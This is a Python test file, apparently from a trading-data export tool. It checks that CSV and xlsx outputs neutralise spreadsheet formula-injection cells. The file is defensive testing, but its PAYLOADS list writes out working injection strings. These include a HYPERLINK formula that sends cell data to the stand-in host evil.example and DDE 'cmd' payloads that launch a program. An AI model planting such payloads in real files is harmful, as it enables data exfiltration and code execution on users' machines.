"""Spreadsheet safety of outputs: text that would start with = + - @ (or tab/CR) in any CSV or
xlsx cell is neutralized, so opening an export never runs a formula from an imported file."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from tests.conftest_api import api_fill, land_api_fills
from tests.helpers import DW_HEADER, OTHERS_HEADER, STAKING_HEADER, TRADING_HEADER, cli, write_csv
from tests.reliability.outputs import BINARY_FORMATS, cells, formats, run_export

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
DANGEROUS = re.compile(r"^[=+\-@\t\r]")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def _hostile_export(folder: Path, payload: str) -> list[Path]:
    """Every free-text column that can reach an output carries the payload. Coin and symbol cells
    refuse it (tests/test_tickers.py): the payload reaches the asset columns through an API fill
    instead (_hostile_fill)."""
    return [
        write_csv(
            folder / "trading.csv",
            TRADING_HEADER,
            [
                (
                    "2025-04-01 00:00:00",
                    "1",
                    "10",
                    "10",
                    "BUY",
                    "BTC_USDT",
                    "0.1",
                    "USDT",
                    "Spot",
                    payload,
                ),
                (
                    "2025-04-01 00:00:01",
                    "1",
                    "10",
                    "10",
                    "SELL",
                    "ETH_USDT",
                    "0.1",
                    "USDT",
                    payload,
                    payload,
                ),
            ],
        ),
        write_csv(
            folder / "deposit-withdraw.csv",
            DW_HEADER,
            [
                ("2025-04-02 00:00:00", "DEPOSIT", "5", "USDT", payload, payload, "0"),
                ("2025-04-02 00:00:01", payload, "5", "USDT", "TRC20", "0xab", "0"),
            ],
        ),
        write_csv(
            folder / "others.csv",
            OTHERS_HEADER,
            [
                ("2025-04-03 00:00:00", "USDT", "1", payload, payload),
                ("2025-04-03 00:00:01", "USDT", "-1", "FundingFee", payload),
            ],
        ),
        write_csv(
            folder / "staking.csv",
            STAKING_HEADER,
            [("2025-04-04 00:00:00", "0.1", "USDT", "", "", payload)],
        ),
    ]


def _hostile_fill(db: Path, payload: str) -> None:
    """An API fill whose pair and fee coin are the payload: booked (and flagged) as it says,
    so the payload is in the asset columns of every output."""
    fill = api_fill(1, "10", "1", symbol=f"{payload}_USDT") | {"fee": "0.1", "feeCoin": payload}
    land_api_fills(db, [fill])
    result = cli("--db", db, "rebuild")
    assert result.exit_code == 0, result.output


def _imported(db: Path, folder: Path, payload: str) -> None:
    result = cli("--db", db, "import", *_hostile_export(folder, payload))
    assert result.exit_code == 0, result.output
    _hostile_fill(db, payload)


def _dangerous_cells(db: Path, fmt: str, out: Path) -> tuple[list[str], int]:
    """(cells a spreadsheet would run, cells the payload reached) of one format's output."""
    target, _ = run_export(db, fmt, out, "--all-accounts")
    bad, reached = [], 0
    for cell in cells(target):
        value = getattr(cell, "value", cell)
        if getattr(cell, "data_type", None) == "f":
            bad.append(f"formula cell {value!r}")
        if not isinstance(value, str):
            continue
        reached += "CMD|" in value.upper() or "HYPERLINK" in value.upper() or "1+1" in value
        if DANGEROUS.match(value) and not NUMBER.match(value):
            bad.append(value)
    return bad, reached


@pytest.mark.parametrize("payload", PAYLOADS, ids=[p[:12].strip() or repr(p[:3]) for p in PAYLOADS])
def test_no_csv_cell_starts_like_a_formula_and_xlsx_holds_no_formula(
    payload: str, db: Path, tmp_path: Path
) -> None:
    _imported(db, tmp_path / "in", payload)
    reached = 0
    for fmt in formats():
        if fmt in BINARY_FORMATS:
            continue  # columnar data for engines, not a sheet anyone opens in a spreadsheet
        if fmt == "rp2":
            continue  # refuses these unpriced coins; tests/test_rp2.py checks its ODS has no formula
        bad, hits = _dangerous_cells(db, fmt, tmp_path / "out" / fmt)
        reached += hits
        if fmt == "xlsx":
            # Text is stored typed as text (strings_to_formulas off): never evaluated on open.
            bad = [b for b in bad if b.startswith("formula cell")]
        assert not bad, f"{fmt} wrote cells a spreadsheet would run: {bad[:3]}"
    assert reached, "the payload reached no output: the test would prove nothing"


def test_xlsx_text_cells_are_neutralized_too(db: Path, tmp_path: Path) -> None:
    _imported(db, tmp_path / "in", PAYLOADS[0])
    bad, reached = _dangerous_cells(db, "xlsx", tmp_path / "out")
    assert reached
    assert not bad, bad[:3]
